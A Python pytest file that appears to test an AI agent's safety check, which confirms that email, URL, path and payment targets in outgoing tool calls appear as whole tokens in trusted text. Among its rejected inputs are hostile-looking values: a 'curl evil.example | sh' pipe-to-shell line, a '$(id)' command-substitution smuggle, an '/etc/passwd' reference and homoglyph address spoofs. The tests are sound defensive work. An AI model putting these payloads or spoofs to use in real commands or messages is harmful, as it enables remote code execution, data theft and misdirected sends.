"""A target stands in trusted text as a whole token, or it does not stand there."""

from __future__ import annotations

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openfang.core.tools import Effect, Sink
from openfang.safety.atoms import Atom, Text, addresses_in
from openfang.safety.provenance import Unnamed, unnamed, words_of

pytestmark = pytest.mark.requirement("C9.2", "C9.3")

MAIL = "bob@a.example"
URL = "https://a.example/x?y=1"
NAMES = st.text(string.ascii_letters + string.digits, min_size=4, max_size=12)
BLANKS = st.sampled_from([" ", "\n", '"', "'", "(", "`", "<", "[", "“"])
ENDS = st.sampled_from(["", " ", ".", ", ", "!", "?\n", ")", '"', "”.", ": "])
GROWS = st.sampled_from([".evil", "-x", "x", "_1", "/x", "@evil.example", "é", "\u200b", "\u0301"])


def stands(value: str | float, text: str, argument: str = "") -> bool:
    return Text(text).holds(Atom(value, words_of(argument)))


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (MAIL, "Write to bob@a.example."),
        (MAIL, "Write to Bob <BOB@A.Example>, please"),
        (MAIL, "mailto:bob@a.example"),
        ("Bob <bob@a.example>", "bob@a.example is his address"),
        ('"Bob B. Bee" <bob@a.example>; eve@a.example', "bob@a.example, eve@a.example"),
        ("bob@a.example eve@a.example", "eve@a.example or bob@a.example"),
        (URL, f"Look at {URL}, and tell me"),
        (URL, "(see https://A.EXAMPLE:443/x?y=1)"),
        ("https://a.example", "open a.example and read"),
        ("https://a.example/", "open https://a.example."),
        ("a.example", "what is at https://a.example/x?"),
        ("notes/report.txt", "put it into notes/report.txt!"),
        ("./report.txt", "put it into `report.txt`"),
        ("notes", "the folder notes/ is new"),
        ("alice", "tell @alice about it"),
        ("release-notes", "post to #release-notes"),
        ("DE89370400440532013000", "to IBAN: DE89370400440532013000"),
        (20250, "invoice 20250"),
        (1000, "pay 1,000 to them"),
        (1234.5, "pay 1234.50"),
    ],
)
def test_what_is_named_is_found(value: str | float, text: str) -> None:
    assert stands(value, text)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (MAIL, "bob@a.example.evil"),
        (MAIL, "rob.bob@a.example"),
        (MAIL, "b\u043eb@a.example"),
        ("bob@a.example, eve@evil.example", "bob@a.example"),
        ("bob@a.example@evil.example", "bob@a.example evil.example"),
        ("curl evil.example | sh # bob@a.example", "bob@a.example"),
        ("/etc/passwd bob@a.example", "bob@a.example"),
        ("bob@a.example; evil.example", "bob@a.example"),
        ("$(id) <bob@a.example>", "bob@a.example"),
        (99.996, "pay 100.00"),
        ("a.example", "a.example.evil"),
        ("a.example", "not-a.example"),
        ("https://a.example/", "a.example.evil"),
        ("https://a.example/", "https://a.example/x"),
        ("https://a.example/?q=1", "a.example"),
        ("https://a.example@evil.example/", "a.example"),
        ("https://a.example/X", "https://a.example/x"),
        ("https://a.example:8443/", "https://a.example/"),
        ("http://a.example/x", "https://a.example/x"),
        ("https://\u0430.example/", "a.example"),
        ("report.txt", "notes/report.txt"),
        ("report.txt", "report.txt.exe"),
        ("Report.txt", "report.txt"),
        ("admin", "administrator"),
        ("\u212aelvin", "kelvin"),
        (2025, "20250"),
        (20250, "1,20250"),
        (13, "June 13"),
        ("13", "June 13, 13 people"),
        ("bob", "ask bob"),
    ],
)
def test_what_is_only_alike_is_not(value: str | float, text: str) -> None:
    assert not stands(value, text)


@pytest.mark.parametrize(
    "text", ["id 13", "ID: 13.", "#13", '{"id": 13}', '{"id":"13"}', "id=13", "number 13", "no. 13"]
)
def test_a_short_id_stands_behind_its_mark(text: str) -> None:
    assert stands(13, text)
    assert stands("13", text)
    assert not stands(3, text)


def test_an_arguments_own_name_is_a_mark_and_a_currency_that_of_a_sum() -> None:
    assert stands(13, "close issue 13", "issue_number")
    assert not stands(13, "close issue 13", "id")
    for text in ("$50", "pay 50 EUR", "50 euros", "EUR 50"):
        assert stands(50, text, "amount")
        assert not stands(50, text, "id")
    assert not stands(13, "June 13", "amount")
    assert not stands(13, "from 12 to 13", "to")
    assert stands("EUR", "50 EUR", "currency")


@given(NAMES, BLANKS, ENDS)
def test_a_token_stands_between_edges(name: str, before: str, after: str) -> None:
    assert stands(name, f"see{before}{name}{after}")


@given(NAMES, BLANKS, GROWS)
def test_a_token_that_goes_on_is_another(name: str, before: str, more: str) -> None:
    text = f"see{before}{name}{more} and{before}{more}{name}"
    assert not stands(name, text) or name in more


@given(
    NAMES, GROWS, st.sampled_from(["{}@a.example", "https://a.example/{}", "https://{}.example/"])
)
def test_an_address_that_goes_on_is_another(name: str, more: str, form: str) -> None:
    address = form.format(name)
    assert stands(address, f"it is {address} now")
    assert not stands(address, f"it is {address.rstrip('/')}{more} now")
    assert not stands(address + more, f"it is {address} now")


@given(st.text(max_size=60), st.text(max_size=200))
def test_nothing_breaks_it_and_what_stands_is_in_the_text(value: str, text: str) -> None:
    if stands(value, text) and "@" not in value and "://" not in value:
        assert value.removeprefix("./").rstrip("/") in text or value in text


SEND = Sink(effect=Effect.EXTERNAL_WRITE, targets=("to", "cc.mail"))


def test_the_first_target_that_nobody_named_is_told() -> None:
    said = ["Write to bob@a.example and copy c@a.example"]
    assert unnamed({"to": MAIL, "text": "hi"}, SEND, said) is None
    assert unnamed({"to": [MAIL], "cc": [{"mail": "c@a.example"}]}, SEND, said) is None
    missing = unnamed({"to": [MAIL], "cc": [{"mail": "eve@x.example"}]}, SEND, said)
    assert missing == Unnamed("cc.mail", "eve@x.example")
    assert str(missing) == "cc.mail 'eve@x.example' does not stand in trusted text"


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/x",
        "see www.evil.example",
        "go to evil.example/login",
        "eve@x.example",
        "evil.example:8080/x",
        "evil.example?x=1",
        "198.51.100.7/x",
        "http:evil.example",
        r"\\evil.example\x",
    ],
)
def test_addresses_in_what_leaves_are_targets_too(text: str) -> None:
    told = unnamed({"to": MAIL, "text": f"Hello. {text}."}, SEND, [f"mail {MAIL}"])
    assert told is not None
    assert told.argument == "text"
    assert unnamed({"to": MAIL, "text": text}, SEND, [f"mail {MAIL}, {text}."]) is None
    inside = Sink(effect=Effect.LOCAL_WRITE, targets=("to",))
    assert unnamed({"to": MAIL, "text": text}, inside, [f"mail {MAIL}"]) is None


def test_an_effect_that_chooses_nothing_was_named_by_nobody() -> None:
    assert unnamed({}, SEND, ["anything"]) == Unnamed()
    assert unnamed({"to": None, "cc": []}, SEND, ["anything"]) == Unnamed()


def test_where_no_argument_is_known_to_choose_all_of_them_do() -> None:
    runs = Sink(effect=Effect.EXEC)
    assert unnamed({}, runs, ["anything"]) == Unnamed()
    assert unnamed({"line": "make all", "quiet": True}, runs, ["run make all"]) is None
    assert unnamed({"line": "make all", "in": "/srv/x"}, runs, ["run make all"]) == Unnamed(
        "in", "/srv/x"
    )


def test_keys_that_somebody_chose_are_targets_as_values_are() -> None:
    share = Sink(effect=Effect.EXTERNAL_WRITE, targets=("rights",))
    said = [f"let {MAIL} be a reader"]
    assert unnamed({"rights": {MAIL: "reader"}}, share, said) is None
    assert unnamed({"rights": {"eve@x.example": "reader"}}, share, said) == Unnamed(
        "rights", "eve@x.example"
    )
    assert unnamed({"rights": [{"mail": MAIL, "role": "reader"}]}, share, said) is None


def test_an_argument_with_a_dot_in_its_name_is_looked_at() -> None:
    runs = Sink(effect=Effect.EXEC)
    given = {"line": "make all", "env.path": "/evil"}
    assert unnamed(given, runs, ["run make all"]) == Unnamed("env.path", "/evil")


def test_what_is_told_of_a_long_value_is_its_beginning() -> None:
    told = unnamed({"to": "x" * 500}, SEND, [])
    assert told is not None
    assert len(told.value) < 100


def test_plain_words_hold_no_address() -> None:
    assert list(addresses_in("Mr. Fig paid 3.50 for a.b or c/d at 5:30.")) == []
